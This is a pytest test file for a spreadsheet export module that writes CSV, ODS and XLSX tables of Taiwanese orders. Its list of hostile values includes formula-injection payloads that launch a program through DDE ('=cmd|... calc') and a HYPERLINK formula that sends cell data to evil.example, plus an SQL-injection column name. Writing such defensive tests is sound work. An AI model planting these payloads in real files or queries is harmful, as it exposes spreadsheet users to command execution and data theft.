"""Spreadsheets read back by other people's readers: what went in comes out, and nothing can run."""

import csv
import hashlib
import io
import re
import tracemalloc
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from xml.etree import ElementTree

import openpyxl
import pytest
from django.db import connection, transaction
from python_calamine import CalamineWorkbook

from papers.columns import About, Column, Kind, TableSummary
from papers.registers import TooLongForPaper, register_pdf
from papers.rows import BATCH_ROWS, CopiedRows
from papers.tables import FORMATS, MEDIA_TYPES, table_file

COLUMNS = [
    Column("number", "訂單編號"),
    Column("ubn", "統一編號"),
    Column("months", "月數", Kind.INTEGER),
    Column("points", "點數", Kind.POINTS),
    Column("price_twd", "價格", Kind.TWD),
    Column("rate_bp", "補助比例", Kind.PERCENT),
    Column("paid_date", "撥款日期", Kind.DATE),
    Column("ordered_at", "下單時間", Kind.DATETIME),
]
ROW = (
    "O1",
    "01234567",
    12,
    9_600,
    19_200,
    5_000,
    date(2026, 11, 23),
    datetime(2026, 11, 23, 6, 5, 9, tzinfo=UTC),
)
EMPTY_ROW = ("", None, None, None, None, None, None, None)
AT = datetime(2026, 11, 23, 1, 0, tzinfo=UTC)
ABOUT = About(as_of=AT, made_by="王小明（稽核）", made_at=AT, filters={"縣市": "屏東縣"}, source="點數帳")
TEXT = [Column("note", "備註")]

INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\x00=1+1",
    "\x1f=1+1",
    "\x0b\x0c@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "+886-2-2345-6789",
    "=",
    "\x84=1",
    "\ud800=1",
    "\ufffe=1",
]


def written(
    fmt: str, columns: list[Column], rows: object, language: str = "zh-hant", **options: object
) -> bytes:
    out = io.BytesIO()
    table_file(fmt, "訂單", columns, rows, language, out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def read(fmt: str, data: bytes, sheet: int = 0) -> list[list[object]]:
    """All rows with the header, by a reader that is not ours."""
    if fmt == "csv":
        return [list(row) for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))]
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return book.get_sheet_by_index(sheet).to_python(skip_empty_area=False)


@pytest.mark.parametrize("fmt", ["ods", "xlsx"])
@pytest.mark.parametrize("language", ["zh-hant", "en"])
def test_spreadsheets_keep_values_and_their_types(fmt: str, language: str) -> None:
    header, row = read(fmt, written(fmt, COLUMNS, [ROW], language))
    assert header == [column.label for column in COLUMNS]
    assert row == [
        "O1",
        "01234567",
        12,
        9600,
        19200,
        0.5,
        date(2026, 11, 23),
        datetime(2026, 11, 23, 14, 5, 9),
    ]


def test_xlsx_is_read_the_same_by_openpyxl() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(written("xlsx", COLUMNS, [ROW])))["訂單"]
    cells = [cell.value for cell in sheet[2]]
    assert cells[:6] == ["O1", "01234567", 12, 9600, 19200, 0.5]
    assert cells[6] == datetime(2026, 11, 23)
    assert abs((cells[7] - datetime(2026, 11, 23, 14, 5, 9)).total_seconds()) < 0.001
    assert sheet.freeze_panes == "A2"
    assert 'e"年"' in sheet["G2"].number_format  # Taiwan's calendar, so that people see the ROC year


def test_csv_shows_roc_dates_in_chinese_and_iso_dates_in_english() -> None:
    chinese = read("csv", written("csv", COLUMNS, [ROW]))[1]
    english = read("csv", written("csv", COLUMNS, [ROW], "en"))[1]
    assert chinese[6:] == ["民國115年11月23日", "民國115年11月23日 14:05:09"]
    assert english == ["O1", "01234567", "12", "9600", "19200", "50.00%", "2026-11-23", "2026-11-23 14:05:09"]


def test_csv_starts_with_a_byte_order_mark() -> None:
    assert written("csv", COLUMNS, []).startswith(b"\xef\xbb\xbf\xe8\xa8\x82")


def test_ods_shows_roc_dates_in_chinese_only() -> None:
    def content(language: str) -> str:
        return (
            zipfile.ZipFile(io.BytesIO(written("ods", COLUMNS, [ROW], language))).read("content.xml").decode()
        )

    assert 'number:calendar="ROC"' in content("zh-hant")
    assert "ROC" not in content("en")


def test_ods_names_its_type_in_the_first_bytes() -> None:
    data = written("ods", COLUMNS, [ROW])
    assert data[30:38] == b"mimetype"
    assert data[38 : 38 + len(MEDIA_TYPES["ods"])].decode() == MEDIA_TYPES["ods"]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("hostile", INJECTIONS)
def test_text_that_starts_like_a_formula_is_guarded(fmt: str, hostile: str) -> None:
    data = written(fmt, TEXT, [("first",), (hostile,), ("last",)])
    cell = read(fmt, data)[2][0]
    assert isinstance(cell, str)
    assert cell.startswith("'")
    if fmt == "xlsx":
        assert openpyxl.load_workbook(io.BytesIO(data)).active["A3"].data_type in ("s", "inlineStr")


@pytest.mark.parametrize("fmt", FORMATS)
def test_guards_are_not_put_where_nothing_threatens(fmt: str) -> None:
    harmless = ["1=1", "a-b", "'quoted", "李", "(02)2345-6789", " =1"]
    assert [row[0] for row in read(fmt, written(fmt, TEXT, [(text,) for text in harmless]))[1:]] == harmless


@pytest.mark.parametrize("fmt", FORMATS)
def test_hostile_labels_titles_and_about_lines_are_guarded(fmt: str) -> None:
    out = io.BytesIO()
    about = About(as_of=AT, made_by="@me", made_at=AT, filters={"=1": "=2"}, source="+3")
    table_file(fmt, '=[]:*?/\\<&">', [Column("a", "=A1")], [("x",)], "zh-hant", out, about=about)
    if fmt == "csv":
        rows = read(fmt, out.getvalue())
    else:
        rows = read(fmt, out.getvalue()) + read(fmt, out.getvalue(), sheet=1)
    texts = [cell for row in rows for cell in row if cell]
    assert texts[0] == "'=A1"
    assert {"'=1", "'=2", "'+3", "'@me"} <= set(texts)
    assert not [text for text in texts if str(text)[0] in "=+-@"]


def test_numbers_stay_numbers_below_zero() -> None:
    columns = [Column("points", "點數", Kind.POINTS), Column("rate_bp", "比例", Kind.PERCENT)]
    assert read("csv", written("csv", columns, [(-5, -1_250)]))[1] == ["-5", "-12.50%"]
    assert read("ods", written("ods", columns, [(-5, -1_250)]))[1] == [-5, -0.125]
    assert read("xlsx", written("xlsx", columns, [(-5, -1_250)]))[1] == [-5, -0.125]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("text", ["=1+1", "<v>1</v>", "12abc", 1.5, Decimal("0.1")])
def test_number_columns_refuse_what_is_not_a_whole_number(fmt: str, text: object) -> None:
    with pytest.raises(ValueError):
        written(fmt, [Column("points", "點數", Kind.POINTS)], [(text,)])


@pytest.mark.parametrize("fmt", FORMATS)
def test_sums_of_the_database_are_accepted_as_whole_numbers(fmt: str) -> None:
    data = written(fmt, [Column("points", "點數", Kind.POINTS)], [(Decimal("12"),), (True,), (None,)])
    assert [str(row[0]).removesuffix(".0") for row in read(fmt, data)[1:3]] == ["12", "1"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_chinese_four_byte_and_marked_up_text_survives(fmt: str) -> None:
    texts = [
        "𠮷野家",
        "𡘙😀",
        "龍嚮　全形",
        "<b>&amp;\"'</b>",
        "a,b;c",
        "]]>",
        "第一行\n第二行",
        "兩  個空格",
    ]
    rows = read(fmt, written(fmt, TEXT, [(text,) for text in texts]))[1:]
    assert [row[0] for row in rows] == texts


def test_tabs_inside_text_survive() -> None:
    assert read("csv", written("csv", TEXT, [("a\tb",)]))[1] == ["a\tb"]
    assert read("xlsx", written("xlsx", TEXT, [("a\tb",)]))[1] == ["a\tb"]
    content = zipfile.ZipFile(io.BytesIO(written("ods", TEXT, [("a\tb",)]))).read("content.xml")
    assert b"<text:p>a<text:tab/>b</text:p>" in content  # as OpenDocument writes a tab


@pytest.mark.parametrize("fmt", FORMATS)
def test_control_characters_are_stripped_and_line_ends_made_one(fmt: str) -> None:
    data = written(fmt, TEXT, [("a\x00b\x08c\x1bd\x7fe\x1ff\x9fg\ud83dh\uffff",), ("x\r\ny\rz",)])
    rows = read(fmt, data)[1:]
    assert [row[0] for row in rows] == ["abcdefgh", "x\ny\nz"]


@pytest.mark.parametrize("fmt", ["ods", "xlsx"])
def test_numbers_too_long_for_a_spreadsheet_are_kept_digit_by_digit_as_text(fmt: str) -> None:
    columns = [Column("n", "數", Kind.INTEGER, total=True)]
    long, edge = 12_345_678_901_234_567_890, 999_999_999_999_999
    out = io.BytesIO()
    summary = table_file(fmt, "t", columns, [(long,), (edge,), (None,)], "en", out, with_totals=True)
    values = [row[0] for row in read(fmt, out.getvalue())]
    assert values[1:3] == [str(long), edge]
    assert summary.totals == {"n": long + edge}
    assert values[-1] == str(long + edge)


def test_text_beyond_excels_limit_is_cut_visibly_in_xlsx_and_kept_in_ods() -> None:
    text = "😀" * 40_000
    (cut,) = read("xlsx", written("xlsx", TEXT, [(text,)]))[1]
    assert cut == "😀" * 16_383 + "…"
    assert read("ods", written("ods", TEXT, [(text,)]))[1] == [text]


def test_dates_before_excels_calendar_are_written_as_text() -> None:
    columns = [Column("d", "日", Kind.DATE), Column("at", "時", Kind.DATETIME)]
    rows = [(date(1899, 5, 1), datetime(1895, 4, 17, 8, 0)), (date(1900, 3, 1), datetime(1912, 1, 1, 8, 30))]
    old, new = read("xlsx", written("xlsx", columns, rows))[1:]
    assert old == ["民國前13年05月01日", "民國前17年04月17日 08:00:00"]
    assert new == [date(1900, 3, 1), datetime(1912, 1, 1, 8, 30)]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("rows", [[], iter(())])
def test_an_empty_table_has_its_header_and_a_zero_total(fmt: str, rows: object) -> None:
    out = io.BytesIO()
    summary = table_file(fmt, "空", COLUMNS, rows, "zh-hant", out, about=ABOUT, with_totals=True)  # type: ignore[arg-type]
    assert summary == TableSummary(0, {"points": 0, "price_twd": 0}, hashlib.sha256(b"").hexdigest())
    header, total = read(fmt, out.getvalue())[:2]
    assert header == [column.label for column in COLUMNS]
    assert [total[0], *map(int, total[3:5])] == ["合計", 0, 0]


@pytest.mark.parametrize("fmt", FORMATS)
def test_empty_cells_keep_their_neighbours_in_place(fmt: str) -> None:
    rows = read(fmt, written(fmt, COLUMNS, [EMPTY_ROW, ROW]))
    assert [cell for cell in rows[1] if cell] == []
    assert rows[2][1] == "01234567"
    assert len(rows[1]) == len(COLUMNS)


def many_rows(count: int) -> Iterator[tuple[object, ...]]:
    for n in range(count):
        yield (
            f"O{n}",
            f"{n:08d}",
            n % 24,
            n,
            n * 2,
            n % 10_001,
            date(2026, 1, 1 + n % 28),
            datetime(2026, 1, 1, n % 24),
        )


@pytest.mark.parametrize("count", [1, BATCH_ROWS - 1, BATCH_ROWS, BATCH_ROWS + 1, 3 * BATCH_ROWS + 7])
def test_every_format_and_language_agrees_on_count_totals_and_checksum(count: int) -> None:
    shots = []
    for fmt in FORMATS:
        for language in ("zh-hant", "en"):
            out = io.BytesIO()
            shots.append(table_file(fmt, "t", COLUMNS, many_rows(count), language, out, about=ABOUT))
            assert [row[0] for row in read(fmt, out.getvalue())[1 : count + 1]] == [
                f"O{n}" for n in range(count)
            ]
    assert len({(shot.rows, str(shot.totals), shot.checksum) for shot in shots}) == 1
    assert shots[0].rows == count
    assert shots[0].totals == {"points": sum(range(count)), "price_twd": 2 * sum(range(count))}


def test_anyone_can_recompute_the_checksum_from_a_csv() -> None:
    out = io.BytesIO()
    columns = [Column("a", "甲"), Column("n", "數", Kind.INTEGER), Column("d", "日", Kind.DATE)]
    rows = [('=x, "y"', 1, date(2026, 1, 2)), ("好", None, None)]
    summary = table_file("csv", "t", columns, rows, "en", out)
    assert summary.checksum == hashlib.sha256(out.getvalue().split(b"\r\n", 1)[1]).hexdigest()
    assert summary.checksum == hashlib.sha256('"\'=x, ""y""",1,2026-01-02\r\n好,,\r\n'.encode()).hexdigest()


def test_one_changed_cell_changes_the_checksum() -> None:
    shots = {
        table_file("csv", "t", TEXT, rows, "en", io.BytesIO()).checksum
        for rows in (
            [("a",), ("b",)],
            [("a",), ("c",)],
            [("b",), ("a",)],
            [("a",), ("b",), ("",)],
            [("a,b",)],
        )
    }
    assert len(shots) == 5


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_table_says_where_it_comes_from(fmt: str) -> None:
    out = io.BytesIO()
    summary = table_file(fmt, "核銷清冊", COLUMNS, [ROW], "zh-hant", out, about=ABOUT)
    rows = read(fmt, out.getvalue())[3:] if fmt == "csv" else read(fmt, out.getvalue(), sheet=1)
    lines = {str(row[0]): row[1] for row in rows}
    assert lines["名稱"] == "核銷清冊"
    assert lines["資料時點"] == "民國115年11月23日 09:00:00"
    assert lines["縣市"] == "屏東縣"
    assert lines["資料來源"] == "點數帳"
    assert lines["製表人"] == "王小明（稽核）"
    assert lines["資料筆數"] == "1"
    assert lines["點數"] == "9,600"
    assert lines["資料檢查碼（SHA-256）"] == summary.checksum


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("rows", [[("a",)], [("a", "b", 1), ("a", "b")], [("a", "b", 1, 2)]])
def test_rows_of_another_width_are_refused(fmt: str, rows: object) -> None:
    with pytest.raises(ValueError):
        written(fmt, [Column("a", "a"), Column("b", "b"), Column("c", "c", Kind.INTEGER)], rows)


@pytest.mark.parametrize("fmt", ["ods", "xlsx"])
def test_a_full_sheet_is_followed_by_another(fmt: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(f"papers.{fmt}_tables.SHEET_ROWS", 2_500)
    data = written(fmt, TEXT, ((str(n),) for n in range(5_500)))
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert book.sheet_names == ["訂單", "訂單 (2)", "訂單 (3)"]
    sheets = [book.get_sheet_by_name(name).to_python() for name in book.sheet_names]
    assert all(sheet[0] == ["備註"] for sheet in sheets)
    assert [row[0] for sheet in sheets for row in sheet[1:]] == [str(n) for n in range(5_500)]


@pytest.mark.parametrize("fmt", ["ods", "xlsx"])
def test_every_part_is_well_formed_xml(fmt: str) -> None:
    package = zipfile.ZipFile(
        io.BytesIO(written(fmt, COLUMNS, [ROW, EMPTY_ROW], about=ABOUT, with_totals=True))
    )
    assert package.testzip() is None
    parts = [name for name in package.namelist() if name.endswith((".xml", ".rels"))]
    assert len(parts) >= 5
    for name in parts:
        ElementTree.fromstring(package.read(name))


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_same_rows_give_the_same_bytes(fmt: str) -> None:
    assert written(fmt, COLUMNS, [ROW], about=ABOUT) == written(fmt, COLUMNS, [ROW], about=ABOUT)


@pytest.mark.parametrize("fmt", FORMATS)
def test_files_can_be_written_to_a_response_that_cannot_seek(fmt: str) -> None:
    class Response(io.RawIOBase):
        def __init__(self) -> None:
            self.parts: list[bytes] = []

        def writable(self) -> bool:
            return True

        def write(self, data: bytes) -> int:  # type: ignore[override]
            self.parts.append(bytes(data))
            return len(data)

    response = Response()
    table_file(fmt, "t", COLUMNS, [ROW], "en", response)  # type: ignore[arg-type]
    assert read(fmt, b"".join(response.parts))[1][1] == "01234567"


@pytest.mark.parametrize("fmt", FORMATS)
def test_memory_does_not_grow_with_the_rows(fmt: str) -> None:
    class Nowhere(io.BytesIO):
        def write(self, data: object) -> int:
            return len(data)  # type: ignore[arg-type]

    def peak(count: int) -> int:
        tracemalloc.start()
        table_file(fmt, "t", COLUMNS, many_rows(count), "zh-hant", Nowhere())
        _, highest = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return highest

    peak(2_000)
    assert peak(45_000) < peak(15_000) + 500_000


def test_an_unknown_format_is_refused() -> None:
    with pytest.raises(KeyError):
        written("pdf", COLUMNS, [ROW])


HOSTILE_VALUES = [
    "plain",
    "=1+1",
    "tab\there",
    "line\nend",
    "back\\slash",
    "\\N",
    "\\",
    "\\t",
    "",
    "a\x01b",
    "\r=x",
    "𠮷",
    "'",
    '"',
    "\x1f=2",
    "a\x85b\x9fc",
    "x\uffffy",
    "\ufffe=1",
    "é",
]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_rows_copied_from_the_database_are_the_rows_a_cursor_would_give(fmt: str) -> None:
    columns = [
        Column("note", "備註"),
        Column("points", "點數", Kind.POINTS),
        Column("d", "日", Kind.DATE),
        Column("at", "時", Kind.DATETIME),
    ]
    at = datetime(2026, 11, 23, 17, 5, 9, 987_654, tzinfo=UTC)
    values = [
        (text, None if n % 5 == 0 else n - 3, date(2026, 1, 1 + n), at)
        for n, text in enumerate(HOSTILE_VALUES)
    ]
    sql = (
        "SELECT * FROM (VALUES "
        + ", ".join(["(%s, %s::int, %s::date, %s::timestamptz)"] * len(values))
        + ") AS v (note, points, d, at)"
    )
    parameters = [cell for row in values for cell in row]
    plain, copied = io.BytesIO(), io.BytesIO()
    first = table_file(fmt, "t", columns, values, "zh-hant", plain)
    with connection.cursor() as cursor:
        second = table_file(fmt, "t", columns, CopiedRows(cursor, sql, parameters), "zh-hant", copied)
    assert first == second
    assert first.rows == len(HOSTILE_VALUES)
    assert plain.getvalue() == copied.getvalue()


@pytest.mark.django_db
def test_copied_rows_take_columns_by_name_and_batches_do_not_matter() -> None:
    columns = [Column("b", "乙", Kind.INTEGER, total=True), Column("a", "甲")]
    out = io.BytesIO()
    with connection.cursor() as cursor:
        rows = CopiedRows(
            cursor, "SELECT n::text AS a, n AS b, 'unused' AS c FROM generate_series(1, 2500) AS n"
        )
        summary = table_file("csv", "t", columns, rows, "en", out)
    assert summary.rows == 2_500
    assert summary.totals == {"b": 2_500 * 2_501 // 2}
    assert read("csv", out.getvalue())[-1] == ["2500", "2500"]


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["zh-hant", "en"])
@pytest.mark.parametrize("fmt", FORMATS)
def test_plain_and_special_stretches_of_a_copy_come_out_alike(fmt: str, language: str) -> None:
    columns = [
        Column("note", "備註"),
        Column("n", "數", Kind.POINTS),
        Column("d", "日", Kind.DATE),
        Column("at", "時", Kind.DATETIME),
        Column("rate_bp", "比例", Kind.PERCENT),
    ]
    sql = """
        SELECT CASE WHEN n BETWEEN 4000 AND 4100 THEN '=1,"' || n WHEN n BETWEEN 8000 AND 8005 THEN '＝' || n
                    WHEN n % 9 = 0 THEN NULL ELSE '好' || n END AS note,
            CASE WHEN n % 7 > 0 THEN n - 6000 END AS n, CASE WHEN n % 5 > 0 THEN date '2026-01-01' + n % 700 END AS d,
            CASE WHEN n % 3 > 0 THEN timestamptz '2026-01-01 00:00+00' + n * interval '61 minutes' END AS at,
            CASE WHEN n % 4 > 0 THEN n % 10001 END AS rate_bp
        FROM generate_series(1, 12000) AS n"""
    plain, copied = io.BytesIO(), io.BytesIO()
    with connection.cursor() as cursor:
        second = table_file(fmt, "t", columns, CopiedRows(cursor, sql), language, copied)
        cursor.execute(sql)
        first = table_file(fmt, "t", columns, cursor.fetchall(), language, plain)
    assert first == second
    assert first.rows == 12_000
    assert read(fmt, plain.getvalue()) == read(fmt, copied.getvalue())


@pytest.mark.django_db
def test_a_copy_that_is_broken_off_leaves_the_connection_usable() -> None:
    columns = [Column("a", "甲")]
    rows = "SELECT n::text AS a FROM generate_series(1, 200000) AS n"
    with connection.cursor() as cursor:
        with pytest.raises(TooLongForPaper), transaction.atomic():
            register_pdf("清冊", columns, CopiedRows(cursor, rows), "en", about=ABOUT)
        cursor.execute("SELECT 1")
        assert cursor.fetchone() == (1,)


@pytest.mark.parametrize("name", ['a"; DROP TABLE x; --', "a b", ""])
def test_copied_rows_refuse_names_that_are_not_names(name: str) -> None:
    with pytest.raises(ValueError, match="column's name"):
        written("csv", [Column(name, "x")], CopiedRows(None, "SELECT 1"))


def test_sheet_names_are_ones_a_spreadsheet_accepts() -> None:
    out = io.BytesIO()
    table_file("xlsx", "很長" * 30 + "[]:*?/\\", TEXT, [("a",)], "en", out)
    (name,) = openpyxl.load_workbook(io.BytesIO(out.getvalue())).sheetnames
    assert len(name) <= 31
    assert not re.search(r"[\[\]:*?/\\]", name)
